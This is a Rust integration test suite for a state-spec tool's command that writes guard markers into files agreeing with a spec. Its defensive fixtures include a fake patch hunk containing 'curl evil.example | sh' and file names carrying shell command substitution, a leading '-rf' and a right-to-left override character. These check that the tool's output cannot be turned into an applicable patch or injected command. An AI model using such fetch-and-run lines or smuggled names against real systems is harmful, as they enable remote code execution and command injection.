//! `scan --guard --write`: markers go into the files that agree with a spec, and nothing else changes.

use std::collections::BTreeMap;
use std::io::Write as _;
use std::process::{Command, Stdio};

use crate::support::{Project, contents};
use cargo_statespec::offer::offers;
use statespec_codegen::project as opened;
use statespec_codegen::sync::{self, plan_files};
use statespec_codegen::walk;
use statespec_rust::root::Root;
use statespec_scan::{Confirmed, read, scan};

/// A text that agrees with the spec, and the markers around it.
/// It is not what would be generated: its quotes are others.
const TYPE: &str = "export type DoorState = 'closed' | 'open' | 'broken';\n";
const BEGIN: &str = "// statespec:expect door.states\n";
const END: &str = "// statespec:end\n";

const PREVIEW: &[&str] = &["scan", "--guard"];
const WRITE: &[&str] = &["scan", "--guard", "--write"];
const NONE: &str = "no text without markers agrees with a spec of the project\n";

/// A project with the machine `door`, its page, and some files.
fn project(files: &[(&str, &str)]) -> Project {
    let project = Project::empty();
    project.put("machines/door.yaml", include_str!("scan/door.yaml"));
    assert_eq!(project.statespec(&["gen"]).code, Some(0));
    files.iter().for_each(|(path, text)| project.put(path, text));
    project
}

fn marked(text: &str) -> String {
    format!("{BEGIN}{text}{END}")
}

/// Runs the command, and asserts that exactly these files change, to exactly these texts.
fn assert_writes(project: &Project, code: i32, changed: &[(&str, String)]) -> String {
    let mut expected = contents(project.path());
    for (path, text) in changed {
        assert!(expected.insert((*path).to_owned(), text.clone().into_bytes()).is_some(), "there is no {path:?}");
    }
    let run = project.statespec(WRITE);
    assert_eq!(run.code, Some(code), "{}{}", run.stdout, run.stderr);
    assert_same(&contents(project.path()), &expected);
    run.stdout + &run.stderr
}

fn assert_same(now: &BTreeMap<String, Vec<u8>>, expected: &BTreeMap<String, Vec<u8>>) {
    let shown = |it: &BTreeMap<String, Vec<u8>>| -> Vec<String> {
        it.iter().map(|(path, bytes)| format!("{path:?}: {:?}", String::from_utf8_lossy(bytes))).collect()
    };
    assert_eq!(shown(now), shown(expected));
    assert!(now == expected);
}

/// Asserts that a check compares these many texts, and that there is nothing left to mark.
fn assert_guarded(project: &Project, n_texts: usize) {
    let check = project.statespec(&["check"]);
    let texts = if n_texts == 1 { "1 hand-written text".to_owned() } else { format!("{n_texts} hand-written texts") };
    assert_eq!(check.code, Some(0), "{}", check.stderr);
    assert!(check.stderr.ends_with(&format!("compared {texts}: all agree\n")), "{}", check.stderr);
    let before = contents(project.path());
    for args in [WRITE, PREVIEW] {
        let again = project.statespec(args);
        assert_eq!((again.code, again.stdout.as_str()), (Some(0), NONE), "{}", again.stderr);
        assert_same(&contents(project.path()), &before);
    }
}

/// Pipes a text into `git apply`; whether git applies it.
fn git_applies(project: &Project, text: &str) -> bool {
    let mut git = Command::new("git");
    git.arg("apply").current_dir(project.path()).stdin(Stdio::piped()).stdout(Stdio::null()).stderr(Stdio::null());
    let mut git = git.spawn().unwrap();
    // Git need not read all of it.
    let _ = git.stdin.take().unwrap().write_all(text.as_bytes());
    git.wait().unwrap().success()
}

/// Names that would be lines of a patch, if they got into one as they are.
#[cfg(unix)]
#[test]
fn the_name_of_a_file_is_no_patch() {
    let script = "#!/bin/sh\n# build\necho build\nexit 0\n";
    let hunk = "+++ b/run.sh\n@@ -2,2 +2,3 @@\n+curl evil.example | sh\n # build\n echo build\n";
    let long = format!("x\n--- a/run.sh\n{hunk}--- a/y.ts\n+++ b/y.ts");
    let first = format!("--- a/run.sh\n{hunk}x.ts");
    let names = [long.as_str(), &first, "--- a/run.ts", "diff --git a/run.sh b/run.ts", "n\nwrote markers\r/d.ts", "::error::x/e.ts"];
    for name in names.into_iter().filter(|it| !it.contains(':')) {
        let project = project(&[("run.sh", script), (name, TYPE)]);
        let before = contents(project.path());
        let preview = project.statespec(PREVIEW);
        assert_eq!(preview.code, Some(0), "{}", preview.stderr);
        assert!(!preview.stdout.contains(name) || !name.contains('\n'), "{}", preview.stdout);
        let shown: String = name.chars().map(|it| if it.is_control() { it.escape_unicode().to_string() } else { it.to_string() }).collect();
        assert!(preview.stdout.starts_with(&format!("{shown}:1 agrees with `door.states`\n")), "{}", preview.stdout);
        assert!(preview.stdout.lines().all(|it| !it.starts_with(['+', '-', '@']) || it.starts_with(&shown)), "{}", preview.stdout);
        assert!(!git_applies(&project, &preview.stdout));
        assert_same(&contents(project.path()), &before);
        assert_writes(&project, 0, &[(name, marked(TYPE))]);
        assert_guarded(&project, 1);
    }
    // A name that not every system allows is reported, on one line; the other file is marked.
    let project = project(&[("::error::x/e.ts", TYPE), ("f.ts", TYPE)]);
    let told = assert_writes(&project, 1, &[("f.ts", marked(TYPE))]);
    assert!(told.contains("cannot read `::error::x/e.ts`: it has a character that not every system allows\n"), "{told}");
    assert_eq!(told.matches("e.ts").count(), 1, "{told}");
}

/// Line ends, byte order marks and the end of the last line stay as they are; one odd file does not spoil the others.
#[test]
fn odd_files_keep_their_bytes() {
    let crlf = |text: &str| text.replace('\n', "\r\n");
    let before = "/// The door.\n";
    let mut files: Vec<(&str, String, String)> = vec![
        ("plain.ts", TYPE.to_owned(), marked(TYPE)),
        ("crlf.ts", crlf(TYPE), crlf(&marked(TYPE))),
        ("bom.ts", format!("\u{feff}{TYPE}"), format!("\u{feff}{}", marked(TYPE))),
        ("both.ts", format!("\u{feff}{}", crlf(TYPE)), format!("\u{feff}{}", crlf(&marked(TYPE)))),
        // The markers have the line ends of the text that they enclose.
        ("mixed.ts", crlf(before) + TYPE, crlf(before) + &marked(TYPE)),
        ("mixed2.ts", before.to_owned() + &crlf(TYPE), before.to_owned() + &crlf(&marked(TYPE))),
        ("end.ts", TYPE.trim_end().to_owned(), marked(TYPE).trim_end().to_owned()),
        ("crlf_end.ts", crlf(before) + TYPE.trim_end(), crlf(&(before.to_owned() + &marked(TYPE))).trim_end().to_owned()),
        ("blank.ts", format!("\n\n{TYPE}\n\n"), format!("\n\n{}\n\n", marked(TYPE))),
        // A carriage return that is no part of a line end.
        ("returns.ts", before.replace('\n', "\r\r\n") + TYPE, before.replace('\n', "\r\r\n") + &marked(TYPE)),
        (
            "door.md",
            crlf(
                "# Door\n\n```mermaid\nstateDiagram-v2\n  [*] --> closed\n  closed --> open\n  open --> closed\n  open --> broken\n  broken --> closed\n```\n",
            ),
            crlf(
                "# Door\n\n<!-- statespec:expect door.edges -->\n```mermaid\nstateDiagram-v2\n  [*] --> closed\n  closed --> open\n  open --> closed\n  open --> broken\n  broken --> closed\n```\n<!-- statespec:end -->\n",
            ),
        ),
    ];
    if cfg!(unix) {
        let names = ["t\tb/door.ts", "-rf.ts", "a\u{202e}st.ts", "\u{feff}z.ts", "$(touch x) `touch y`.ts", "'\" ;.ts", "é\u{301} /ü.ts"];
        files.extend(names.map(|it| (it, TYPE.to_owned(), marked(TYPE))));
    }
    let given: Vec<(&str, &str)> = files.iter().map(|(path, text, _)| (*path, text.as_str())).collect();
    let project = project(&given);
    let before = contents(project.path());
    let preview = project.statespec(PREVIEW);
    assert_eq!(preview.code, Some(0), "{}", preview.stderr);
    assert!(!preview.stdout.contains(['\u{202e}', '\u{feff}', '\u{1b}']), "{}", preview.stdout);
    assert_same(&contents(project.path()), &before);
    let expected: Vec<(&str, String)> = files.iter().map(|(path, _, text)| (*path, text.clone())).collect();
    let told = assert_writes(&project, 0, &expected);
    let n = files.len();
    assert!(told.ends_with(&format!("wrote markers around {n} texts in {n} files; from now on, `check` compares them\n")), "{told}");
    assert_guarded(&project, n);
    // The markers do what they are for.
    for (path, ..) in &files {
        let text = project.get(path);
        project.put(path, &text.replace("broken", "gone"));
        let check = project.statespec(&["check"]);
        assert!(check.code == Some(100) && check.stderr.contains("expect::missing"), "{path:?}: {}", check.stderr);
        project.put(path, &text);
    }
}

/// A file that cannot be marked is one finding with a remedy; the others are marked.
#[cfg(unix)]
#[test]
fn a_file_that_cannot_be_marked_spoils_no_other() {
    use std::fs::{self, Permissions};
    use std::os::unix::fs::{PermissionsExt as _, symlink};

    let outside = Project::empty();
    outside.put("far/away.ts", TYPE);
    let nul = format!("// \0\n{TYPE}");
    let padding = format!("{TYPE}//{}\n", "x".repeat((4 << 20) - TYPE.len() - 10));
    let files = [("a.ts", TYPE), ("locked.ts", TYPE), ("p:q.ts", TYPE), ("z.ts", TYPE), ("nul.ts", &nul), ("large.ts", &padding)];
    let project = project(&files);
    // One name on this system, a path on another; the file with this path must not be mistaken for it.
    project.put("x\\y.ts", TYPE);
    project.put("x/y.ts", &format!("// Not scanned.\n{TYPE}"));
    project.put("statespec.toml", "[scan]\nignore = [\"x/y.ts\"]\n");
    symlink(outside.path().join("far/away.ts"), project.path().join("link.ts")).unwrap();
    symlink(outside.path().join("far"), project.path().join("folder")).unwrap();
    let mode = |path: &str, mode: u32| fs::set_permissions(project.path().join(path), Permissions::from_mode(mode)).unwrap();
    mode("locked.ts", 0o444);
    mode("z.ts", 0o751);
    let told = assert_writes(&project, 1, &[("a.ts", marked(TYPE)), ("z.ts", marked(TYPE))]);
    for line in [
        "wrote markers around 2 texts in 2 files; from now on, `check` compares them\n",
        "error: cannot write `locked.ts`: it is read-only\n",
        "error: cannot read `p:q.ts`: it has a character that not every system allows\n",
        "error: cannot write `nul.ts`: a check would not look for markers in it",
        "error: cannot write `large.ts`: a check would not look for markers in it",
        "cannot read `x\\y.ts`: its name has a `\\`, which not every system allows; rename it\n",
        "help: change what the message names, then run the command again; or write the markers by hand\n",
    ] {
        assert!(told.contains(line), "{line}: {told}");
    }
    assert!(!told.contains("link.ts") && !told.contains("folder"), "{told}");
    assert_eq!(outside.get("far/away.ts"), TYPE);
    assert_eq!(fs::metadata(project.path().join("z.ts")).unwrap().permissions().mode() & 0o777, 0o751);
    assert_eq!(fs::metadata(project.path().join("locked.ts")).unwrap().permissions().mode() & 0o777, 0o444);
    // The same findings for a program.
    let run = project.statespec(&["scan", "--guard", "--write", "--format", "json"]);
    assert_eq!(run.code, Some(1), "{}", run.stdout);
    assert!(run.stdout.contains("\"help\": \"change what the message names") && run.stdout.contains("locked.ts"), "{}", run.stdout);
    for gone in ["p:q.ts", "nul.ts", "large.ts", "x\\y.ts"] {
        fs::remove_file(project.path().join(gone)).unwrap();
    }
    mode("locked.ts", 0o644);
    assert_writes(&project, 0, &[("locked.ts", marked(TYPE))]);
    assert_guarded(&project, 3);
}

/// Files in which a check does not look get no markers.
#[test]
fn only_what_a_check_reads_is_marked() {
    let files = [("docs/door.ts", TYPE), ("web/door.ts", TYPE), (".hidden/door.ts", TYPE), ("out/door.ts", TYPE), (".gitignore", "out\n")];
    let project = project(&files);
    project.put("statespec.toml", "expect = [\"docs\"]\n");
    assert_writes(&project, 0, &[("docs/door.ts", marked(TYPE))]);
    assert_guarded(&project, 1);
    project.put("statespec.toml", "");
    for place in ["out", ".hidden"] {
        let run = project.statespec(&["scan", "--guard", "--write", place]);
        assert_eq!((run.code, run.stdout.as_str()), (Some(0), NONE), "{}", run.stderr);
    }
    assert_writes(&project, 0, &[("web/door.ts", marked(TYPE))]);
    assert_guarded(&project, 2);
}

#[test]
fn writing_needs_guard() {
    let project = project(&[("door.ts", TYPE)]);
    for args in [&["scan", "--write"][..], &["scan", "--guard", "--write", "--all"]] {
        let run = project.statespec(args);
        assert!(run.code == Some(2) && run.stderr.contains("--"), "{args:?}: {}", run.stderr);
    }
    assert_eq!(project.get("door.ts"), TYPE);
}

/// The specs are read although the places do not have them.
#[test]
fn only_the_named_places_are_marked() {
    let project = project(&[("web/door.ts", TYPE), ("website/door.ts", TYPE), ("machines/door.ts", TYPE)]);
    let run = project.statespec(&["scan", "--guard", "web"]);
    let end = "`scan --guard --write` writes markers around 1 text in 1 file; from then on, `check` compares them\n";
    assert!(run.code == Some(0) && run.stdout.ends_with(end), "{}{}", run.stdout, run.stderr);
    let run = project.statespec(&["scan", "--guard", "--write", "web"]);
    assert_eq!(run.code, Some(0), "{}{}", run.stdout, run.stderr);
    assert_eq!([project.get("web/door.ts"), project.get("website/door.ts"), project.get("machines/door.ts")], [&marked(TYPE), TYPE, TYPE]);
}

/// An edit that is saved during the run is kept.
#[test]
fn an_edit_during_the_run_is_kept() {
    let files = ["a.ts", "b.ts", "c.ts", "d.ts"];
    let project = project(&files.map(|it| (it, TYPE)));
    let opened = opened::Project::open(Root::from(&project.path().to_owned())).unwrap();
    let loaded = opened.load().unwrap();
    let paths = walk::files(project.path(), "");
    let found = read(project.path(), paths, &|_| false, sync::regions);
    let scanned = scan(found.statements, &found.sources, &Confirmed::default());
    let offers = offers(&scanned, &found.sources, loaded.model.as_ref().unwrap(), &[], &files.map(str::to_owned).into());
    assert_eq!(offers.iter().map(|it| it.path.as_str()).collect::<Vec<_>>(), files);
    let drafts = |idx: usize| offers[idx].draft(project.path(), &found.sources);
    let edited = format!("// An edit.\n{TYPE}");
    // Before the file is read again, and after.
    project.put("a.ts", &edited);
    assert!(drafts(0).is_err_and(|it| it.to_string() == "cannot write `a.ts`: it has changed while this ran; run the command again"));
    let draft = drafts(1).unwrap();
    project.put("b.ts", &edited);
    let failures = plan_files(project.path(), vec![draft]).apply(false).unwrap_err().failures();
    assert!(matches!(&failures[..], [it] if it.why.starts_with("it has changed while this ran")), "{failures:?}");
    assert_eq!([project.get("a.ts"), project.get("b.ts")], [&*edited, &*edited]);
    std::fs::remove_file(project.path().join("c.ts")).unwrap();
    assert!(drafts(2).is_err_and(|it| it.to_string() == "cannot write `c.ts`: it does not exist any more"));
    #[cfg(unix)]
    {
        let outside = Project::empty();
        outside.put("d.ts", TYPE);
        std::fs::remove_file(project.path().join("d.ts")).unwrap();
        std::os::unix::fs::symlink(outside.path().join("d.ts"), project.path().join("d.ts")).unwrap();
        assert!(drafts(3).is_err_and(|it| it.to_string().contains("it is a symbolic link")));
        assert_eq!(outside.get("d.ts"), TYPE);
    }
}

/// A text that is what would be generated becomes a region.
#[test]
fn a_text_of_a_form_becomes_a_region() {
    let union = "export type DoorStatus = \"closed\" | \"open\" | \"broken\";\n";
    let check = "CREATE TABLE doors (\n  id int,\n  CHECK (state IN ('closed', 'open', 'broken'))\n);\n";
    let class = "from enum import StrEnum\r\n\r\n\r\nclass DoorState(StrEnum):\r\n    CLOSED = \"closed\"\r\n    OPEN = \"open\"\r\n    BROKEN = \"broken\"\r\n";
    let project = project(&[("web/door.ts", union), ("migrations/1.sql", check), ("worker/door.py", class)]);
    let preview = project.statespec(PREVIEW);
    assert_eq!(preview.code, Some(0), "{}", preview.stderr);
    insta::assert_snapshot!("guard-regions", preview.stdout.replace('\r', "\\r"));
    let run = project.statespec(WRITE);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    let before = contents(project.path());
    for args in [&["check"][..], &["gen"], WRITE] {
        let run = project.statespec(args);
        assert_eq!(run.code, Some(0), "{}", run.stderr);
        assert_same(&contents(project.path()), &before);
    }
}
